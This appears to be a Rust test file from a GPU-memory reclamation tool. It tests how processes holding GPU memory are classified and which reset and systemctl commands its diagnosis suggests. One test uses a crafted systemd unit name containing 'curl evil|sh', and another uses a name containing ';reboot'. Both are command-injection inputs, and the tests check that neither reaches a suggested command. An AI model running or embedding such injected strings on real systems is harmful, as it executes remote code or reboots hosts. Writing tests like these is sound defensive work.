    use vramguard_core::snapshot::{RemappedRows, XidCount};
    let mut pending = gpu(0, 0, &[]);
    pending.health.remapped_rows = Some(RemappedRows {
        correctable: 1,
        pending: true,
        ..Default::default()
    });
    let mut fallen = gpu(1, 0, &[]);
    fallen.health.xid_events = vec![XidCount { xid: 79, count: 1 }];
    let d = diagnose(classify(
        &snapshot(vec![pending, fallen], vec![init()]),
        &Policy::default(),
    ));
    let health: Vec<_> = d
        .checks
        .iter()
        .filter(|c| c.name == "memory health")
        .map(|c| (c.gpu, c.status))
        .collect();
    assert_eq!(
        health,
        vec![(Some(0), CheckStatus::Warn), (Some(1), CheckStatus::Fail)]
    );
    assert!(
        !d.verdict.clean,
        "a GPU that fell off the bus needs attention"
    );
    let commands: Vec<_> = d
        .verdict
        .next_steps
        .iter()
        .filter_map(|s| s.command.as_deref())
        .collect();
    assert!(
        commands.contains(&"nvidia-smi --gpu-reset -i 0"),
        "{commands:?}"
    );
    assert!(commands.contains(&"dmesg | grep -i xid"), "{commands:?}");
}

fn root_exe(path: &str) -> ExeFacts {
    ExeFacts {
        path: path.into(),
        deleted: false,
        owner_uid: 0,
        mode: 0o755,
    }
}

/// A listed holder on GPU 0 whose process-group leader (500) is gone and whose parent is init.
fn nohup_case(work: impl FnOnce(&mut Snapshot)) -> vramguard_core::Report {
    let mut s = snapshot(
        vec![gpu(0, 20 * GIB, &[(501, Some(20 * GIB))])],
        vec![init(), proc_(501, 1, 500, "python", &[0])],
    );
    work(&mut s);
    classify(&s, &Policy::default())
}

#[test]
fn a_busy_process_whose_launcher_exited_is_detached_not_orphan() {
    // GPU utilization alone.
    let r = nohup_case(|s| {
        s.gpus[0]
            .utilization
            .as_mut()
            .unwrap()
            .samples
            .push(UtilizationSample {
                pid: 501,
                sm_percent: 87,
                mem_percent: 30,
                last_seen_ms: NOW_MS - 500,
                last_busy_ms: Some(NOW_MS - 500),
            })
    });
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Detached, "{h:#?}");
    assert!(!h.action.reclaimable);
    assert!(!h.class.is_ghost());
    assert_eq!(r.gpus[0].ghost_bytes, 0);
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("87 % utilization on GPU 0")),
        "{h:#?}"
    );
    assert_eq!(h.job.as_ref().unwrap().label, "pgid:500");
    assert_eq!(h.job.as_ref().unwrap().alive, Some(false));

    // CPU alone: 30 ticks at 100 Hz over 2 s is 15 % of a core.
    let r = nohup_case(|s| {
        s.work
            .as_mut()
            .unwrap()
            .processes
            .iter_mut()
            .for_each(|w| w.cpu_ticks = 30)
    });
    assert_eq!(r.gpus[0].holders[0].class, Class::Detached);
    // Threads seen running in most observations, with little CPU.
    let r = nohup_case(|s| {
        s.work.as_mut().unwrap().processes.iter_mut().for_each(|w| {
            w.cpu_ticks = 1;
            w.running_observations = 4;
        })
    });
    assert_eq!(r.gpus[0].holders[0].class, Class::Detached);
    // Below the threshold: 4 % of a core is a blocked worker's housekeeping.
    let r = nohup_case(|s| {
        s.work
            .as_mut()
            .unwrap()
            .processes
            .iter_mut()
            .for_each(|w| w.cpu_ticks = 8)
    });
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
    assert!(h.action.reclaimable);
}

/// Issue 25: a real H200 reports `smUtil = 1` for idle contexts, which once made idle workers
/// of a dead job `detached` ("working: 1 % utilization"). A 1 % sample is no work; 5 % is.
#[test]
fn a_one_percent_sample_is_an_idle_context_and_five_percent_is_work() {
    let with_sample = |sm: u32| {
        nohup_case(|s| {
            s.gpus[0]
                .utilization
                .as_mut()
                .unwrap()
                .samples
                .push(UtilizationSample {
                    pid: 501,
                    sm_percent: sm,
                    mem_percent: 0,
                    last_seen_ms: NOW_MS - 200,
                    // As an older reader recorded it: any activity above 0 was "busy".
                    last_busy_ms: Some(NOW_MS - 200),
                })
        })
    };
    let r = with_sample(1);
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
    assert!(h.action.reclaimable, "{h:#?}");
    assert_eq!(r.gpus[0].ghost_bytes, 20 * GIB);
    assert!(
        !h.evidence
            .iter()
            .any(|e| e.contains("% utilization on GPU")),
        "{h:#?}"
    );
    // Quiet since the window began, not since the 1 % sample 200 ms ago.
    assert!(h.idle_secs.is_some_and(|s| s >= 1), "{h:#?}");
    let r = with_sample(5);
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Detached, "{h:#?}");
    assert!(!h.action.reclaimable);
    // The threshold is the policy's.
    let mut s = snapshot(
        vec![gpu(0, 20 * GIB, &[(501, Some(20 * GIB))])],
        vec![init(), proc_(501, 1, 500, "python", &[0])],
    );
    s.gpus[0]
        .utilization
        .as_mut()
        .unwrap()
        .samples
        .push(UtilizationSample {
            pid: 501,
            sm_percent: 5,
            mem_percent: 0,
            last_seen_ms: NOW_MS - 200,
            last_busy_ms: Some(NOW_MS - 200),
        });
    let strict = Policy {
        gpu_work_min_percent: 10,
        ..Policy::default()
    };
    assert_eq!(
        classify(&s, &strict).gpus[0].holders[0].class,
        Class::Orphan
    );
    // A policy that counts 1 % as work sees the newest 1 % sample, not the reader's stamp of
    // the last sample at the default 2 % (30 s ago, outside gpu_busy_recent).
    s.gpus[0].utilization.as_mut().unwrap().samples[0] = UtilizationSample {
        pid: 501,
        sm_percent: 1,
        mem_percent: 0,
        last_seen_ms: NOW_MS - 200,
        last_busy_ms: Some(NOW_MS - 30_000),
    };
    let cautious = Policy {
        gpu_work_min_percent: 1,
        ..Policy::default()
    };
    assert_eq!(
        classify(&s, &cautious).gpus[0].holders[0].class,
        Class::Detached
    );
    assert_eq!(
        classify(&s, &Policy::default()).gpus[0].holders[0].class,
        Class::Orphan
    );
}

#[test]
fn without_a_sampling_window_an_orphan_is_not_reclaimable() {
    let r = nohup_case(|s| s.work = None);
    let h = &r.gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan);
    assert!(!h.action.reclaimable, "{h:#?}");
    assert!(matches!(
        h.work,
        vramguard_core::report::Work::Unknown { .. }
    ));
    // A GPU without per-process utilization leaves GPU work unknown.
    let r = nohup_case(|s| s.gpus[0].utilization = None);
    assert!(!r.gpus[0].holders[0].action.reclaimable);
}

#[test]
fn a_worker_whose_parent_lives_belongs_to_the_parents_job() {
    // sh (500, the group leader) exited; the trainer 501 was re-parented to init; its
    // worker 502 still has the trainer as parent. The trainer computes, the worker is idle:
    // both are detached (the worker serves a working job).
    let mut s = snapshot(
        vec![gpu(
            0,
            24 * GIB,
            &[(501, Some(20 * GIB)), (502, Some(4 * GIB))],
        )],
        vec![
            init(),
            proc_(501, 1, 500, "python", &[0]),
            proc_(502, 501, 500, "pt_data_worker", &[0]),
        ],
    );
    s.gpus[0]
        .utilization
        .as_mut()
        .unwrap()
        .samples
        .push(UtilizationSample {
            pid: 501,
            sm_percent: 90,
            mem_percent: 40,
            last_seen_ms: NOW_MS,
            last_busy_ms: Some(NOW_MS),
        });
    let r = classify(&s, &Policy::default());
    let worker = r.gpus[0].holders.iter().find(|h| h.pid == 502).unwrap();
    assert_eq!(worker.class, Class::Detached, "{worker:#?}");
    assert!(
        worker
            .evidence
            .iter()
            .any(|e| e.contains("501 (python) of its job"))
    );
    // The same tree, idle: both orphans of one dead job.
    s.gpus[0].utilization.as_mut().unwrap().samples.clear();
    let r = classify(&s, &Policy::default());
    assert!(r.gpus[0].holders.iter().all(|h| h.class == Class::Orphan));

    // The spawn worker of a live trainer whose launcher is gone, but with the trainer's
    // process group intact: active by the tree, although its group leader is not its parent.
    let s = snapshot(
        vec![gpu(0, 4 * GIB, &[(602, Some(4 * GIB))])],
        vec![
            init(),
            proc_(600, 1, 600, "python", &[]),
            proc_(602, 600, 601, "python", &[0]),
        ],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Active, "{h:#?}");
}

/// Holder `p` (pid 801, 1 GiB on GPU 0) whose Slurm-named job cgroup `root`, owned by
/// `owner_uid`, holds no slurmstepd.
fn slurm_holder(
    p: &ProcessFacts,
    root: &str,
    owner_uid: Option<u32>,
) -> vramguard_core::report::Holder {
    let mut s = snapshot(
        vec![gpu(0, GIB, &[(801, Some(GIB))])],
        vec![init(), p.clone()],
    );
    s.job_cgroups.push(JobCgroupFacts {
        root: root.into(),
        readable: true,
        members: 1,
        namespace_inits: vec![],
        step_daemons: vec![],
        nested_pid_namespace: false,
        complete: true,
        owner_uid,
    });
    classify(&s, &Policy::default()).gpus[0].holders[0].clone()
}

#[test]
fn a_slurm_named_cgroup_that_root_did_not_make_is_no_slurm_job() {
    // A live job: the holder leads its own process group. A user moved it into directories
    // of their delegated subtree named like a Slurm step; no slurmstepd is there.
    let mut root = "/user.slice/user-1000.slice/user@1000.service/slurm/uid_0/job_7".to_string();
    let mut p = proc_(801, 1, 801, "python", &[0]);
    p.uid = Some(1000);
    p.cgroup = Some(format!("{root}/step_0"));
    let classified = |owner_uid| slurm_holder(&p, &root, owner_uid);
    // Made by root, it is a Slurm job whose step daemon is gone: its idle holder is a target.
    let by_root = classified(Some(0));
    assert_eq!(by_root.class, Class::Orphan, "{by_root:#?}");
    assert_eq!(by_root.job.as_ref().unwrap().label, "slurm:7.0");
    // Made by the user, the name proves nothing: the process group decides, and it lives.
    let by_user = classified(Some(1000));
    assert_eq!(by_user.class, Class::Active, "{by_user:#?}");
    assert!(by_user.dead_job.is_none());
    let job = by_user.job.as_ref().unwrap();
    assert_eq!(job.label, "pgid:801");
    assert!(
        job.evidence
            .contains("named like a Slurm job's but belongs to uid 1000"),
        "{job:#?}"
    );
    // Slurm in a container with a user namespace makes the job's directory as the root it
    // maps (100000 here), and runs the job as another mapped uid: still Slurm's.
    root = "/machine.slice/libpod-ab12.scope/slurm/uid_1000/job_7".to_string();
    p.cgroup = Some(format!("{root}/step_0"));
    p.uid = Some(101_000);
    let classified = |owner_uid| slurm_holder(&p, &root, owner_uid);
    let mapped = classified(Some(100_000));
    assert_eq!(
        mapped.job.as_ref().unwrap().label,
        "slurm:7.0",
        "{mapped:#?}"
    );
    // Made by the process's own user outside any user manager: not Slurm's.
    let own = classified(Some(101_000));
    assert_eq!(own.job.as_ref().unwrap().label, "pgid:801", "{own:#?}");
}

#[test]
fn cgroup_jobs_outrank_the_process_group() {
    // A process whose group leader is gone, inside a systemd unit: the unit owns it.
    let mut p = proc_(701, 1, 700, "python", &[0]);
    p.cgroup = Some("/system.slice/train.service".into());
    let s = snapshot(
        vec![gpu(0, GIB, &[(701, Some(GIB))])],
        vec![init(), p.clone()],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert_eq!(h.job.as_ref().unwrap().label, "unit:train.service");

    // A Slurm step with and without its step daemon.
    p.cgroup = Some("/system.slice/slurmstepd.scope/job_42/step_0/user/task_0".into());
    let root = "/system.slice/slurmstepd.scope/job_42".to_string();
    // The job's facts: `members` looked at (all of them when `complete`), these daemons.
    let with_facts = |stepds: Vec<u32>, members: u32, complete: bool| {
        let mut s = snapshot(
            vec![gpu(0, GIB, &[(701, Some(GIB))])],
            vec![init(), p.clone()],
        );
        s.job_cgroups.push(JobCgroupFacts {
            root: root.clone(),
            readable: true,
            members,
            namespace_inits: vec![],
            step_daemons: stepds,
            nested_pid_namespace: false,
            complete,
            owner_uid: Some(0),
        });
        classify(&s, &Policy::default())
    };
    let with_stepd = |stepds: Vec<u32>| with_facts(stepds, 2, true);
    let live = with_stepd(vec![690]);
    assert_eq!(live.gpus[0].holders[0].class, Class::Active);
    assert_eq!(
        live.gpus[0].holders[0].job.as_ref().unwrap().label,
        "slurm:42.0"
    );
    let dead = with_stepd(vec![]);
    let h = &dead.gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("its job slurm:42.0 is gone")),
        "{h:#?}"
    );
    // A job larger than what was looked at, no daemon among those members: unknown, alive.
    let partial = with_facts(vec![], 4096, false);
    let h = &partial.gpus[0].holders[0];
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert!(h.dead_job.is_none());
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("(4096 members) and no slurmstepd")),
        "{h:#?}"
    );
    // Unreadable cgroup: liveness unknown, taken as alive.
    let mut s = snapshot(
        vec![gpu(0, GIB, &[(701, Some(GIB))])],
        vec![init(), p.clone()],
    );
    s.job_cgroups.clear();
    assert_eq!(
        classify(&s, &Policy::default()).gpus[0].holders[0].class,
        Class::Active
    );
    // Listed but unreadable (no step daemon seen, because nothing could be read): the same.
    let unreadable = {
        let mut s = snapshot(
            vec![gpu(0, GIB, &[(701, Some(GIB))])],
            vec![init(), p.clone()],
        );
        s.job_cgroups.push(JobCgroupFacts {
            root: root.clone(),
            readable: false,
            members: 0,
            namespace_inits: vec![],
            step_daemons: vec![],
            nested_pid_namespace: false,
            complete: true,
            owner_uid: None,
        });
        classify(&s, &Policy::default())
    };
    let h = &unreadable.gpus[0].holders[0];
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert!(h.dead_job.is_none());

    // A container with its own PID namespace cannot outlive its init.
    let id = "ab12".repeat(16);
    p.cgroup = Some(format!("/system.slice/docker-{id}.scope"));
    p.container = Some(ContainerRef {
        runtime: "docker".into(),
        id: id.clone(),
        name: None,
    });
    p.nspid = vec![701, 7];
    let s = snapshot(
        vec![gpu(0, GIB, &[(701, Some(GIB))])],
        vec![init(), p.clone()],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert_eq!(
        h.job.as_ref().unwrap().label,
        format!("docker:{}", &id[..12])
    );
}

#[test]
fn a_process_named_like_a_system_service_is_an_ordinary_holder() {
    let persistenced = |uid: u32, exe: Option<ExeFacts>| {
        let mut d = proc_(50, 1, 40, "nvidia-persiste", &[0]);
        d.uid = Some(uid);
        // The real service runs in its unit; the impostors' job is gone.
        if exe
            .as_ref()
            .is_some_and(|e| e.path == "/usr/bin/nvidia-persistenced")
            && uid == 0
        {
            d.cgroup = Some("/system.slice/nvidia-persistenced.service".into());
        }
        d.exe = exe;
        let s = snapshot(
            vec![gpu(0, 2 * GIB, &[(50, Some(2 * GIB))])],
            vec![init(), d],
        );
        classify(&s, &Policy::default()).gpus[0].holders[0].clone()
    };
    let real = persistenced(0, Some(root_exe("/usr/bin/nvidia-persistenced")));
    assert_eq!(real.class, Class::System);
    assert!(
        real.evidence[0]
            .contains("(/usr/bin/nvidia-persistenced), unit:nvidia-persistenced.service"),
        "{real:#?}"
    );
    // A deleted executable (a driver upgraded without a reboot) is still the service.
    let mut upgraded = root_exe("/usr/bin/nvidia-persistenced");
    upgraded.deleted = true;
    assert_eq!(persistenced(0, Some(upgraded)).class, Class::System);

    for (uid, exe, why) in [
        (
            1000,
            Some(root_exe("/usr/bin/nvidia-persistenced")),
            "uid 1000",
        ),
        (0, Some(root_exe("/usr/bin/python3.11")), "another program"),
        (
            0,
            Some(ExeFacts {
                mode: 0o777,
                ..root_exe("/tmp/nvidia-persistenced")
            }),
            "only root may write",
        ),
        (
            0,
            Some(ExeFacts {
                owner_uid: 1000,
                ..root_exe("/home/a/nvidia-persistenced")
            }),
            "only root may write",
        ),
        (0, None, "unreadable"),
    ] {
        let h = persistenced(uid, exe);
        assert_eq!(h.class, Class::Orphan, "{why}: {h:#?}");
        assert!(h.evidence.iter().any(|e| e.contains(why)), "{why}: {h:#?}");
        assert!(h.class.is_ghost());
    }
}

#[test]
fn a_zombie_leader_whose_threads_work_is_not_killable() {
    let mut z = proc_(100, 50, 100, "python", &[0]);
    z.state = Some('Z');
    z.threads = Some(vec![
        ThreadFacts {
            tid: 100,
            state: 'Z',
            wchan: None,
            leaving: None,
        },
        ThreadFacts {
            tid: 101,
            state: 'R',
            wchan: None,
            leaving: None,
        },
    ]);
    let mut s = snapshot(
        vec![gpu(0, GIB, &[(100, Some(GIB))])],
        vec![init(), z.clone()],
    );
    s.work
        .as_mut()
        .unwrap()
        .processes
        .iter_mut()
        .for_each(|w| w.cpu_ticks = 150);
    // It leads its process group: a live job, and a live process (its main thread called
    // `pthread_exit`): the job rules decide it, as any other.
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_ne!(h.class, Class::Zombie, "{h:#?}");
    assert!(!h.action.reclaimable, "{h:#?}");
    assert!(
        h.evidence
            .iter()
            .any(|e| e.contains("main thread has exited (Z) while 1 other thread(s) live on")),
        "{h:#?}"
    );
    // Its group's leader gone: a zombie, still working, left alone.
    z.pgid = Some(99);
    s.processes = vec![init(), z];
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Zombie);
    assert!(!h.action.reclaimable, "{h:#?}");
    assert!(h.action.summary.contains("still working"));
}

/// Red-team finding: a live, idle process of a live job whose main thread called
/// `pthread_exit` (a server whose worker thread waits for requests) was a `zombie` to SIGKILL
/// with `--include zombie`, and diagnose called its memory "held by no live job". A main
/// thread gone while the others live on, not leaving, in a live job, is a live process:
/// never a zombie, never ghost memory; the job rules decide it.
#[test]
fn a_live_process_whose_main_thread_exited_in_a_live_job_is_no_zombie() {
    let mut z = proc_(100, 50, 100, "server", &[0]);
    z.state = Some('Z');
    z.flags = Some(0x0040_800c);
    z.threads = Some(vec![
        ThreadFacts {
            tid: 100,
            state: 'Z',
            wchan: None,
            leaving: Some(true),
        },
        ThreadFacts {
            tid: 101,
            state: 'S',
            wchan: Some("do_epoll_wait".into()),
            leaving: Some(false),
        },
    ]);
    let s = snapshot(
        vec![gpu(0, GIB, &[(100, Some(GIB))])],
        vec![init(), proc_(50, 1, 50, "bash", &[]), z],
    );
    let r = classify(&s, &Policy::default());
    let h = &r.gpus[0].holders[0];
    assert_ne!(h.class, Class::Zombie, "{h:#?}");
    assert!(!h.class.is_ghost(), "{h:#?}");
    assert!(!h.action.reclaimable, "{h:#?}");
    assert_eq!(r.gpus[0].ghost_bytes, 0);
}

#[test]
fn a_group_leader_is_its_own_job_whatever_its_ancestors_are() {
    // 790 was re-parented to init and its group's leader (700) is gone; its child 800 leads a
    // process group of its own (a job started with job control): 800's job is alive. 801,
    // in 800's group, climbs to it.
    let s = snapshot(
        vec![gpu(
            0,
            3 * GIB,
            &[(800, Some(GIB)), (801, Some(GIB)), (811, Some(GIB))],
        )],
        vec![
            init(),
            proc_(790, 1, 700, "bash", &[]),
            proc_(800, 790, 800, "python", &[0]),
            proc_(801, 800, 800, "python", &[0]),
            // A pipeline member whose group leader exited, under a live shell in another group.
            proc_(810, 1, 810, "bash", &[]),
            proc_(811, 810, 805, "python", &[0]),
        ],
    );
    let r = classify(&s, &Policy::default());
    let class = |pid| r.gpus[0].holders.iter().find(|h| h.pid == pid).unwrap();
    assert_eq!(class(800).class, Class::Active, "{:#?}", class(800));
    assert_eq!(class(801).class, Class::Active, "{:#?}", class(801));
    assert!(
        class(801)
            .evidence
            .iter()
            .any(|e| e.contains("800 (python) leads"))
    );
    assert_eq!(class(811).class, Class::Active, "{:#?}", class(811));
    assert!(
        class(811)
            .evidence
            .iter()
            .any(|e| e.contains("parent 810 (bash) lives"))
    );
}

#[test]
fn a_holder_without_a_cuda_context_does_not_mask_driver_residue() {
    // GPU 1 shows 6 GiB nobody lists. A monitor (an NVML client: /dev/nvidia1 and
    // /dev/nvidiactl, no /dev/nvidia-uvm) holds the device: it cannot hold memory.
    let mut monitor = proc_(70, 1, 70, "gpu-monitor", &[1]);
    monitor.device_files = FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl]);
    let s = snapshot(
        vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])],
        vec![init(), monitor],
    );
    let r = classify(&s, &Policy::default());
    let un = r.gpus[1].unaccounted.as_ref().unwrap();
    assert_eq!(un.cause, Some(UnaccountedCause::DriverResidue), "{un:#?}");
    assert!(
        un.explanation
            .iter()
            .any(|e| e.contains("at least 6.0 GiB is not explained by any holder")),
        "{un:#?}"
    );
    assert_eq!(r.gpus[1].ghost_bytes, 6 * GIB);
    let d = diagnose(r);
    let steps: Vec<String> = d
        .verdict
        .next_steps
        .iter()
        .map(|s| format!("{} | {}", s.why, s.command.clone().unwrap_or_default()))
        .collect();
    assert!(
        steps.iter().any(|s| s.contains("pid 70 (gpu-monitor)")),
        "{steps:#?}"
    );
    assert!(
        steps
            .iter()
            .any(|s| s.ends_with("vramguard reclaim --gpu 1 --reset=auto")),
        "{steps:#?}"
    );

    // With /dev/nvidia-uvm, it may hold a context: both readings are given.
    let mut worker = proc_(71, 1, 60, "python", &[1]);
    worker.device_files =
        FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl, DeviceFile::Uvm]);
    let s = snapshot(
        vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])],
        vec![init(), worker],
    );
    let un = classify(&s, &Policy::default()).gpus[1]
        .unaccounted
        .clone()
        .unwrap();
    assert_eq!(un.cause, Some(UnaccountedCause::HiddenHolders));
    assert!(
        un.explanation
            .iter()
            .any(|e| e.contains("whatever remains after they exit is driver residue")),
        "{un:#?}"
    );
}

/// On driver 580 the vramguard agent (an NVML client in its systemd unit) holds the GPU's
/// files and `/dev/nvidia-uvm`: a reset is refused while it runs. diagnose says to stop the
/// NVML clients' system services for the reset and start them again, in one step; never a
/// user's unit (its name is the user's: `docker.service` under `user@1000.service`), a unit
/// name unsafe to paste, or a service that also runs GPU work (a stats sidecar beside its
/// trainer). None of them is ever a target.
#[test]
fn an_nvml_client_blocking_a_reset_is_stopped_by_its_unit() {
    let client = |pid: u32, comm: &str, cgroup: &str| {
        let mut p = proc_(pid, 1, pid, comm, &[1]);
        p.uid = Some(0);
        p.device_files =
            FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl, DeviceFile::Uvm]);
        p.driver_library = Some(DriverLibrary::NvmlOnly);
        p.cgroup = Some(cgroup.into());
        p
    };
    let agent = client(60, "vramguard", "/system.slice/vramguard-agent.service");
    let dcgm = client(61, "dcgm-exporter", "/system.slice/dcgm-exporter.service");
    let odd = client(62, "exporter", "/system.slice/x;reboot.service");
    let users = client(
        63,
        "python3",
        "/user.slice/user-1000.slice/user@1000.service/app.slice/docker.service",
    );
    let sidecar = client(64, "gpu_stats", "/system.slice/train.service");
    // The sidecar's unit trains on GPU 0, in a scope of its own below the service.
    let mut trainer = proc_(65, 1, 65, "python3", &[0]);
    trainer.uid = Some(0);
    trainer.cgroup = Some("/system.slice/train.service/worker.scope".into());
    let s = snapshot(
        vec![
            gpu(0, 4 * GIB, &[(65, Some(4 * GIB))]),
            gpu(1, 6 * GIB, &[]),
        ],
        vec![init(), agent, dcgm, odd, users, sidecar, trainer],
    );
    let report = classify(&s, &Policy::default());
    for h in report.gpus[1].holders.iter() {
        assert!(!h.action.reclaimable, "{h:#?}");
    }
    let steps: Vec<(String, Option<String>)> = diagnose(report)
        .verdict
        .next_steps
        .into_iter()
        .map(|s| (s.why, s.command))
        .collect();
    let commands: Vec<&str> = steps.iter().filter_map(|(_, c)| c.as_deref()).collect();
    assert!(
        commands.contains(
            &"systemctl stop -- vramguard-agent.service dcgm-exporter.service && vramguard \
              reclaim --gpu 1 --reset=auto --yes; systemctl start -- vramguard-agent.service \
              dcgm-exporter.service"
        ),
        "{steps:#?}"
    );
    // vramguard sees the services' GPU holders only: the step says to look at what else
    // the units run before stopping them.
    assert!(
        steps.iter().any(|(why, c)| c
            .as_deref()
            .is_some_and(|c| c.starts_with("systemctl stop --"))
            && why.contains("systemctl status -- vramguard-agent.service dcgm-exporter.service")),
        "{steps:#?}"
    );
    assert!(
        commands
            .iter()
            .all(|c| !c.contains("reboot") && !c.contains("docker") && !c.contains("train")),
        "{steps:#?}"
    );
    for pid in [62, 63, 64] {
        let (why, command) = steps
            .iter()
            .find(|(why, _)| why.contains(&format!("pid {pid} (")))
            .unwrap_or_else(|| panic!("no step names pid {pid}: {steps:#?}"));
        assert!(why.contains("NVML client"), "{why}");
        assert_eq!(command, &None, "{why}");
    }
}

/// Where a service's cgroup was read whole, diagnose knows what `systemctl stop` would end: a
/// service that runs only its NVML client is stopped for the reset without a word of caution;
/// one that also runs processes holding no GPU (a web UI beside its monitor) is not stopped:
/// the step asks for the client alone, with no command. A cgroup not read whole, or read
/// with more members than vramguard looked at, is unknown: the caution stays.
#[test]
fn a_service_that_runs_more_than_its_nvml_client_is_not_stopped_for_a_reset() {
    use vramguard_core::snapshot::JobCgroupFacts;
    let client = |pid: u32, comm: &str, unit: &str| {
        let mut p = proc_(pid, 1, pid, comm, &[1]);
        p.uid = Some(0);
        p.device_files =
            FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl, DeviceFile::Uvm]);
        p.driver_library = Some(DriverLibrary::NvmlOnly);
        p.cgroup = Some(format!("/system.slice/{unit}"));
        p
    };
    let service = |unit: &str, members: u32, complete: bool| JobCgroupFacts {
        root: format!("/system.slice/{unit}"),
        readable: true,
        members,
        namespace_inits: Vec::new(),
        step_daemons: Vec::new(),
        nested_pid_namespace: false,
        complete,
        owner_uid: Some(0),
    };
    let steps_for = |cgroups: Vec<JobCgroupFacts>| {
        let mut s = snapshot(
            vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])],
            vec![
                init(),
                client(60, "vramguard", "vramguard-agent.service"),
                client(61, "gpu-dash", "dashboard.service"),
            ],
        );
        s.job_cgroups = cgroups;
        let steps: Vec<(String, Option<String>)> = diagnose(classify(&s, &Policy::default()))
            .verdict
            .next_steps
            .into_iter()
            .map(|s| (s.why, s.command))
            .collect();
        steps
    };
    let steps = steps_for(vec![
        service("vramguard-agent.service", 1, true),
        service("dashboard.service", 4, true),
    ]);
    let commands: Vec<&str> = steps.iter().filter_map(|(_, c)| c.as_deref()).collect();
    assert!(
        commands.contains(
            &"systemctl stop -- vramguard-agent.service && vramguard reclaim --gpu 1 \
              --reset=auto --yes; systemctl start -- vramguard-agent.service"
        ),
        "{steps:#?}"
    );
    assert!(
        commands.iter().all(|c| !c.contains("dashboard")),
        "{steps:#?}"
    );
    let (why, _) = steps
        .iter()
        .find(|(why, _)| why.contains("vramguard-agent.service"))
        .unwrap();
    assert!(why.contains("they run nothing else"), "{why}");
    assert!(!why.contains("systemctl status"), "{why}");
    let (why, command) = steps
        .iter()
        .find(|(why, _)| why.contains("pid 61 (gpu-dash)"))
        .unwrap_or_else(|| panic!("{steps:#?}"));
    assert!(
        why.contains("dashboard.service also runs 3 other process(es)"),
        "{why}"
    );
    assert_eq!(command, &None);
    // Read, but not whole: unknown, so both are stopped with the caution.
    let steps = steps_for(vec![
        service("vramguard-agent.service", 1, true),
        service("dashboard.service", 4, false),
    ]);
    assert!(
        steps.iter().any(|(why, c)| c.as_deref().is_some_and(
            |c| c.starts_with("systemctl stop -- vramguard-agent.service dashboard.service")
        ) && why.contains("systemctl status -- dashboard.service`")),
        "{steps:#?}"
    );
}

#[test]
fn every_reset_blocker_gets_the_command_that_clears_it() {
    let mut daemon = proc_(50, 1, 50, "nvidia-persiste", &[1]);
    daemon.uid = Some(0);
    daemon.exe = Some(root_exe("/usr/bin/nvidia-persistenced"));
    daemon.device_files = FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl]);
    let mut g1 = gpu(1, 7 * GIB, &[(80, Some(GIB))]);
    g1.utilization.as_mut().unwrap().since_ms = NOW_MS - 7_200_000;
    let kernel = proc_(80, 1, 80, "python", &[1]);
    let s = snapshot(vec![gpu(0, 0, &[]), g1], vec![init(), daemon, kernel]);
    let d = diagnose(classify(&s, &Policy::default()));
    let commands: Vec<String> = d
        .verdict
        .next_steps
        .iter()
        .filter_map(|s| s.command.clone())
        .collect();
    assert!(
        commands.contains(
            &"systemctl stop nvidia-persistenced && vramguard reclaim --gpu 1 --reset=auto --yes; systemctl start nvidia-persistenced"
                .to_string()
        ),
        "{commands:#?}"
    );
    assert!(
        commands
            .contains(&"vramguard reclaim --gpu 1 --include idle --idle-for 10m00s".to_string()),
        "{commands:#?}"
    );
    assert_eq!(
        commands.last().map(String::as_str),
        Some("vramguard reclaim --gpu 1 --reset=auto")
    );
}

#[test]
fn a_unit_name_built_to_be_pasted_into_a_shell_is_never_suggested_as_a_command() {
    let hostengine = |unit: &str| {
        let mut d = proc_(60, 1, 60, "nv-hostengine", &[1]);
        d.uid = Some(0);
        d.exe = Some(root_exe("/usr/bin/nv-hostengine"));
        d.device_files = FdScan::Scanned(vec![DeviceFile::Gpu(1), DeviceFile::Ctl]);
        d.cgroup = Some(format!("/system.slice/{unit}"));
        let s = snapshot(vec![gpu(0, 0, &[]), gpu(1, 6 * GIB, &[])], vec![init(), d]);
        diagnose(classify(&s, &Policy::default()))
            .verdict
            .next_steps
    };
    let plain = hostengine("nvidia-dcgm.service");
    assert!(
        plain
            .iter()
            .any(|s| s.command.as_deref() == Some("systemctl stop nvidia-dcgm.service")),
        "{plain:#?}"
    );
    let hostile = hostengine("x; curl evil|sh #.service");
    assert!(
        hostile
            .iter()
            .all(|s| !s.command.as_deref().unwrap_or("").contains("curl")),
        "{hostile:#?}"
    );
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]
    /// A snapshot is input (`--replay` reads any file): extreme numbers anywhere must give a
    /// report, a diagnosis and a plan, never a panic (arithmetic overflow included).
    #[test]
    fn extreme_numbers_in_a_snapshot_never_panic(
        nums in proptest::collection::vec(
            proptest::prop_oneof![
                proptest::prelude::Just(0u64),
                proptest::prelude::Just(u64::MAX),
                proptest::prelude::Just(u64::MAX / 2),
                proptest::prelude::Just(u32::MAX as u64),
                0u64..10_000,
            ],
            24,
        )
